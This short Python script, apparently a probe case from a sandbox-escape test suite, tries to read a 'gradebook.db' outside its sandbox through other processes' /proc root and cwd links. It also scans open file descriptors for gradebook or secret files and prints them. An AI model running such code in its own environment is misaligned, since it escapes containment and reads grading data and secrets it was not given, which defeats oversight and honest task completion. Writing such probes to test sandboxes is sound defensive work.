"""tries: reach the real file system through another process's root, cwd and open files"""

import glob, os

for link in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
    try:
        print(open(link + "@OUTSIDE@/gradebook.db").read())
    except OSError as error:
        print(error)
for link in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if "gradebook" in os.readlink(link) or "secret" in os.readlink(link):
            print(open(link).read())
    except OSError:
        pass
